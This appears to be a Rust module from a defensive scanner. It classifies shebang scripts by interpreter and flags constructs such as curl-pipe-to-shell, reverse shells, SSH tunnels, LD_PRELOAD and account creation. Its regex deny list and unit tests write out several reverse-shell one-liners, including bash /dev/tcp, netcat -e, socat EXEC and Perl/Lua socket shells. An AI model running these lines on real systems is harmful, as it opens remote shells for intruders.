//! Scripts: which interpreter runs them, and constructs that open ways in or out, whatever the language.
use regex::bytes::Regex;
use std::sync::LazyLock;

#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Script {
    /// What stands behind `#!`.
    pub interpreter: String,
    /// Name of the interpreter without folder and version: sh, bash, python, perl, lua, node …
    pub language: String,
    /// Names of the telling constructs outside comment lines, sorted.
    pub constructs: Vec<String>,
    /// Programs that it names by an absolute path where a command or the value of a variable may stand, in that order.
    pub runs: Vec<String>,
}

/// Longer scripts are looked at up to here; a shell archive carries its payload behind.
const LIMIT: usize = 8 << 20;

/// More programs than this are not gathered from one script.
const MOST_RUN: usize = 32;

/// Name and pattern of each construct. They say what a script can do, not that it is wrong to.
const CONSTRUCTS: &[(&str, &str)] = &[
    ("/dev/tcp/", r"/dev/(?:tcp|udp)/"),
    ("AT command", r#"['"\s]AT(?:\+C[A-Z]{2,}|D[T*#]|\$Q[A-Z]|\^[A-Z]{4,})"#),
    ("authorized_keys", r"\bauthorized_keys\b"),
    ("base64 -d | sh", r"\bbase64\s+(?:-\w+\s+)*(?:-d|-D|--decode)\b[^\n]*\|\s*(?:ba|da|z|k)?sh\b"),
    ("bash -i", r"\b(?:ba|da|z|k)?sh\s+-i\b"),
    ("crontab", r"\bcrontab\s+(?:-u\s+\S+\s+)?(?:-|/|<)"),
    ("curl | sh", r"\b(?:curl|wget)\b[^\n]*\|\s*(?:sudo\s+)?(?:ba|da|z|k)?sh\b"),
    ("insmod", r"\b(?:insmod|modprobe)\s+[-\w./$]"),
    ("ip_forward", r"\bip_forward\b"),
    ("iptables nat", r"\biptables\b[^\n]*(?:MASQUERADE|DNAT|SNAT|REDIRECT)"),
    ("ld.so.preload", r"/etc/ld\.so\.preload|\bLD_PRELOAD="),
    ("mkfifo", r"\bmkfifo\b|\bmknod\b[^\n]*\sp\b"),
    ("modem device", r"/dev/(?:ttyUSB|ttyACM|ttyHS|cdc-wdm|wwan)\w*"),
    ("modem manager", r"\b(?:mmcli|qmicli|mbimcli|qmi-network|wvdial|sakis3g|usb_modeswitch|comgt|gcom)\b"),
    ("nc -e", r"\b(?:nc|ncat|netcat)(?:\.\w+)?\b[^\n|;&]*\s-\w*[ec]\b"),
    ("nc -l", r"\b(?:nc|ncat|netcat)(?:\.\w+)?\b[^\n|;&]*\s-\w*l"),
    ("new_id", r"/new_id\b"),
    ("openssl s_client", r"\bopenssl\s+s_client\b"),
    ("pppd", r"\bpppd\s+\S|\b(?:pon|poff)\s+\w"),
    ("pty.spawn", r"\bpty\.spawn\b|\bforkpty\b|\bIO::Pty\b|\bopenpty\b"),
    ("socat exec", r"(?i)\bsocat\b[^\n]*\b(?:exec|system):"),
    ("socat", r"\bsocat\s+\S"),
    (
        "shell spawned",
        r#"(?i)\b(?:exec[lv]?[ep]*|execute|system|popen|spawn|call|run|proc_open|shell_exec|passthru)\b[\s(\["',]{1,6}(?:/(?:usr/)?bin/)?(?:ba|da|z|k)?sh\b"#,
    ),
    (
        "socket",
        r"\bsocket\.socket\b|\bIO::Socket\b|\bfsockopen\s*\(|\bTCPSocket\b|\buse\s+Socket\b|\bnet\.(?:connect|createServer)\b|require\W+(?:posix\.sys\.)?socket\b|\bnixio\.(?:socket|bind|connect)\b",
    ),
    ("ssh -R", r"\b(?:ssh|autossh|dbclient|plink)(?:\s[^\n|;&]*)?\s-\w*R[\s\d:*]|\bRemoteForward\b"),
    ("ssh -w", r"\bssh(?:\s[^\n|;&]*)?\s-\w*w\s*(?:\d|any)|\bTunnel\s+(?:yes|point-to-point|ethernet)\b"),
    ("ssh -D", r"\b(?:ssh|autossh|dbclient|plink)(?:\s[^\n|;&]*)?\s-\w*D[\s\d:*]|\bDynamicForward\b"),
    ("telnetd", r"\b(?:telnetd|dropbear|sshd)\s+-"),
    ("useradd", r"\b(?:useradd|adduser|usermod|chpasswd)\s"),
];

static PATTERNS: LazyLock<Vec<(&str, Regex)>> =
    LazyLock::new(|| CONSTRUCTS.iter().filter_map(|(name, p)| Some((*name, Regex::new(p).ok()?))).collect());

/// `None` if the content does not begin with `#!`.
pub fn parse(bytes: &[u8]) -> Option<Script> {
    let rest = bytes.strip_prefix(b"#!")?;
    // Linux reads 256 bytes of the line at most.
    let line = rest.get(..256).unwrap_or(rest);
    let line = line.split(|b| matches!(b, b'\n' | 0)).next().unwrap_or_default();
    let interpreter = String::from_utf8_lossy(line).trim().to_owned();
    Some(Script { language: language(&interpreter), constructs: constructs(bytes), runs: runs(bytes), interpreter })
}

/// An absolute path behind what may come before a command, or behind `=`.
static RUN: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r#"(?m)(?:^[ \t]*|[;&|(`][ \t]*|\b(?:exec|nohup|setsid|then|do|else|daemon|env|sudo|--exec|--startas)[ \t]+|[ \t]-[xa][ \t]+|=)["']?(/(?:[\w.+@\[\]-]+/)+[\w.+@\[\]-]+)"#,
    )
    .ok()
});

/// Programs that a script names, in the order of their first mention; at most [`MOST_RUN`].
pub fn runs(bytes: &[u8]) -> Vec<String> {
    let text = bytes.get(..LIMIT).unwrap_or(bytes);
    let marks = comment_marks(text);
    let mut found: Vec<String> = Vec::new();
    for hit in RUN.iter().flat_map(|r| r.captures_iter(text)).filter_map(|c| c.get(1)) {
        let path = String::from_utf8_lossy(hit.as_bytes());
        let elsewhere = ["/dev/", "/proc/", "/sys/"].iter().any(|p| path.starts_with(p));
        if elsewhere || found.iter().any(|f| *f == path) || in_comment(text, hit.start(), marks) {
            continue;
        }
        found.push(path.into_owned());
        if found.len() >= MOST_RUN {
            break;
        }
    }
    found
}

fn language(interpreter: &str) -> String {
    let mut words = interpreter.split_whitespace();
    let base = |w: &str| w.rsplit('/').next().unwrap_or_default().to_owned();
    let mut name = words.next().map(base).unwrap_or_default();
    if name == "env" {
        // `env -S VAR=x python3 -u`: the first word that is neither option nor assignment.
        name = words.find(|w| !w.starts_with('-') && !w.contains('=')).map(base).unwrap_or(name);
    }
    if name == "busybox" {
        name = words.next().map_or(name, base);
    }
    name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.' || c == '-').to_owned()
}

/// Names of the telling constructs that stand outside comment lines, sorted.
pub fn constructs(bytes: &[u8]) -> Vec<String> {
    let text = bytes.get(..LIMIT).unwrap_or(bytes);
    let marks = comment_marks(text);
    let mut found: Vec<String> = PATTERNS
        .iter()
        .filter(|(_, pattern)| pattern.find_iter(text).any(|hit| !in_comment(text, hit.start(), marks)))
        .map(|(name, _)| (*name).to_owned())
        .collect();
    found.sort();
    found
}

/// What a comment line begins with, in the language that the first line names.
fn comment_marks(text: &[u8]) -> &'static [&'static [u8]] {
    let line = text.strip_prefix(b"#!").and_then(|rest| rest.get(..256).unwrap_or(rest).split(|b| *b == b'\n').next());
    let language = line.map(|l| language(String::from_utf8_lossy(l).trim())).unwrap_or_default();
    match language.as_str() {
        "lua" | "luajit" => &[b"--"],
        "node" | "nodejs" | "qjs" => &[b"//"],
        "php" | "php-cli" => &[b"#", b"//"],
        _ => &[b"#"],
    }
}

fn in_comment(text: &[u8], at: usize, marks: &[&[u8]]) -> bool {
    let before = text.get(..at).unwrap_or_default();
    let start = memchr::memrchr(b'\n', before).map_or(0, |n| n.saturating_add(1));
    let line = before.get(start..).unwrap_or_default().trim_ascii_start();
    marks.iter().any(|mark| line.starts_with(mark))
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    #[test]
    fn every_pattern_compiles() {
        assert_eq!(PATTERNS.len(), CONSTRUCTS.len());
    }

    #[test]
    fn names_the_interpreter() {
        for (line, language) in [
            ("#!/bin/sh\n", "sh"),
            ("#! /usr/bin/env -S python3.11 -u\nimport os", "python"),
            ("#!/bin/busybox ash", "ash"),
            ("#!/usr/bin/env node", "node"),
            ("#!/usr/bin/perl -w\n", "perl"),
            ("#!/usr/bin/lua5.1\n", "lua"),
            ("#!\n", ""),
        ] {
            assert_eq!(parse(line.as_bytes()).unwrap().language, language, "{line}");
        }
        assert_eq!(parse(b"echo"), None);
    }

    #[test]
    fn names_the_programs_that_it_runs() {
        let text =
            b"#!/bin/sh\n# /usr/bin/none\nDAEMON=\"/opt/a/agent\"\ncd / && /usr/sbin/up -c /etc/up.conf >/dev/null\n\
            start-stop-daemon --start --exec /usr/sbin/two -- -x\n[ -x /usr/bin/three ] && exec /usr/bin/three\n\
            echo /usr/bin/said\n/proc/self/exe\n";
        let runs = parse(text).unwrap().runs;
        assert_eq!(runs, ["/opt/a/agent", "/usr/sbin/up", "/usr/sbin/two", "/usr/bin/three"]);
        let many: String = (0..100).map(|n| format!("/usr/bin/p{n}\n")).collect();
        assert_eq!(super::runs(many.as_bytes()).len(), MOST_RUN);
    }

    #[test]
    fn names_constructs_outside_comments() {
        for (line, expected) in [
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", vec!["/dev/tcp/", "bash -i"]),
            ("autossh -M 0 -N -R 2222:localhost:22 u@h", vec!["ssh -R"]),
            ("ssh -fNR2222:localhost:22 h", vec!["ssh -R"]),
            ("mkfifo /tmp/f; nc -l 99 </tmp/f | sh >/tmp/f", vec!["mkfifo", "nc -l"]),
            ("nc 10.1.1.1 80 -e /bin/sh", vec!["nc -e"]),
            ("socat TCP:1.2.3.4:5 EXEC:/bin/sh,pty", vec!["socat", "socat exec"]),
            ("python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", vec!["pty.spawn", "shell spawned"]),
            ("echo 'AT+CGDCONT=1' > /dev/ttyUSB2", vec!["AT command", "modem device"]),
            (
                "perl -e 'use Socket; socket(S,1,2,3); exec(\"/bin/sh -i\");'",
                vec!["bash -i", "shell spawned", "socket"],
            ),
            ("subprocess.call([\"/bin/bash\", \"-i\"])", vec!["shell spawned"]),
            ("  # nc -e /bin/sh, mkfifo", vec![]),
            (
                "t=require('socket').tcp() t:connect('10.0.0.1',99) os.execute('/bin/sh -i <&3 >&3')",
                vec!["bash -i", "shell spawned", "socket"],
            ),
            ("local s = nixio.socket(\"inet\", \"stream\") nixio.exec(\"/bin/ash\")", vec!["socket"]),
            ("local s = nixio.bind(nil, 99) nixio.exec(\"/bin/sh\")", vec!["shell spawned", "socket"]),
            ("local sys = require 'luci.sys' os.execute('sync')", vec![]),
            ("echo synchronous; scp -R x y; hash -i; ssh-agent -D", vec![]),
        ] {
            assert_eq!(constructs(format!("true\n{line}\n").as_bytes()), expected, "{line}");
        }
    }

    #[test]
    fn comments_are_those_of_the_language() {
        for (text, expected) in [
            ("#!/usr/bin/lua\n-- require('socket') os.execute('/bin/sh')\n", vec![]),
            ("#!/usr/bin/lua\n#t = 1 -- length\nlocal s = require('socket')\n", vec!["socket"]),
            ("#!/usr/bin/env node\n// net.connect(1)\nnet.createServer()\n", vec!["socket"]),
            ("#!/bin/sh\nssh -N \\\n  -R 22:localhost:22 h\n-- nc -e /bin/sh\n", vec!["nc -e"]),
        ] {
            assert_eq!(constructs(text.as_bytes()), expected, "{text}");
        }
    }
}
